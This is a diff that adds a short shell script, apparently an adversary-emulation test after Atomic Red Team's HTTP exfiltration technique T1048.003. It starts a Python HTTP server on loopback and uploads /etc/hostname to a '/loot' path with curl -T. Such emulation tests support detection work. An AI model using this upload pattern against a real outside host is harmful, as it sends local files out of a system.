@@ -1,0 +1,10 @@
+#!/bin/sh
+# T1048.003, after Atomic Red Team "Exfiltration Over Alternative Protocol - HTTP": send a local
+# file with curl to a plain-HTTP listener on loopback.
+set -e
+port=$((30000 + $$ % 10000))
+python3 -m http.server --bind 127.0.0.1 "$port" > /dev/null 2>&1 &
+srv=$!
+sleep 1
+curl -s -m 5 -T /etc/hostname "http://127.0.0.1:$port/loot" > /dev/null || true
+kill "$srv"
